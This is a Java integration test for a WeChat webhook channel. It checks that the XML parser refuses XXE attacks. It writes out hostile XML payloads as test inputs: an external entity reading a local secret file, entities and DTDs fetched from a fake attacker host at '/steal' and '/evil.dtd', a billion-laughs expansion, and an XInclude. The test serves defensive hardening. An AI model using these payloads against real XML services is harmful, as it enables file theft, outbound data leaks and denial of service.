package dev.baton.channel.wechat;

import static dev.baton.channel.wechat.WechatReceiveTest.NOW;
import static dev.baton.channel.wechat.WechatReceiveTest.OPENID;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.baton.channel.FakePlatform;
import dev.baton.channel.WebhookException;
import dev.baton.testing.HandClock;
import dev.baton.testing.IntegrationTest;
import java.net.URI;
import java.net.http.HttpClient;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The webhook's XML parser reads no DOCTYPE at all: no file, URL or expanding entity gets in. */
@IntegrationTest
class WechatXxeTest {

    @TempDir
    Path dir;

    private final FakePlatform attacker = FakePlatform.start();
    private final WechatChannel channel = new WechatChannel(
            WechatReceiveTest.config(null, null, URI.create("http://127.0.0.1:1")),
            HttpClient.newHttpClient(),
            Duration.ofSeconds(1),
            new HandClock(NOW));

    @AfterEach
    void stop() {
        attacker.close();
    }

    @Test
    void anExternalFileEntityIsRefusedAndNotRead() throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-FILE-CONTENT");

        String body = "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>"
                + message("&xxe;");

        assertThatThrownBy(() -> receive(body)).isInstanceOfSatisfying(WebhookException.class, e -> {
            assertThat(e.status()).isEqualTo(400);
            assertThat(e.getMessage()).doesNotContain("TOP-SECRET");
        });
    }

    @Test
    void anExternalUrlEntityIsRefusedWithoutAnyRequest() {
        String body = "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"" + attacker.uri() + "/steal\">]>" + message("&xxe;");

        assertRefused(body);
        assertThat(attacker.calls()).isEmpty();
    }

    @Test
    void anExternalDtdAndParameterEntitiesAreRefusedWithoutAnyRequest() {
        String body = "<!DOCTYPE xml SYSTEM \"" + attacker.uri() + "/evil.dtd\">" + message("hi");
        String parameter =
                "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"" + attacker.uri() + "/p.dtd\"> %remote;]>" + message("hi");

        assertRefused(body);
        assertRefused(parameter);
        assertThat(attacker.calls()).isEmpty();
    }

    @Test
    void expandingEntitiesAreRefused() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE xml [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            String previous = "&lol" + (i - 1) + ";";
            dtd.append("<!ENTITY lol")
                    .append(i)
                    .append(" \"")
                    .append(previous.repeat(10))
                    .append("\">");
        }
        dtd.append("]>");

        assertRefused(dtd + message("&lol9;"));
    }

    @Test
    void anXIncludeIsNotFollowed() {
        String body = "<xml xmlns:xi=\"http://www.w3.org/2001/XInclude\"><ToUserName>gh_1</ToUserName>"
                + "<FromUserName>" + OPENID + "</FromUserName><CreateTime>1348831860</CreateTime>"
                + "<MsgType>text</MsgType><Content><xi:include href=\"" + attacker.uri() + "/inc\" parse=\"text\"/>"
                + "</Content><MsgId>1</MsgId></xml>";

        // A field holding an element is not text: the message is refused, and nothing is fetched for it.
        assertRefused(body);
        assertThat(attacker.calls()).isEmpty();
    }

    private void receive(String body) {
        channel.receive(WechatReceiveTest.request("POST", WechatReceiveTest.signed(NOW.getEpochSecond(), "n"), body));
    }

    private void assertRefused(String body) {
        assertThatThrownBy(() -> receive(body))
                .isInstanceOfSatisfying(
                        WebhookException.class, e -> assertThat(e.status()).isEqualTo(400));
    }

    private static String message(String content) {
        return "<xml><ToUserName>gh_1</ToUserName><FromUserName>" + OPENID + "</FromUserName>"
                + "<CreateTime>1348831860</CreateTime><MsgType>text</MsgType><Content>" + content
                + "</Content><MsgId>1</MsgId></xml>";
    }
}
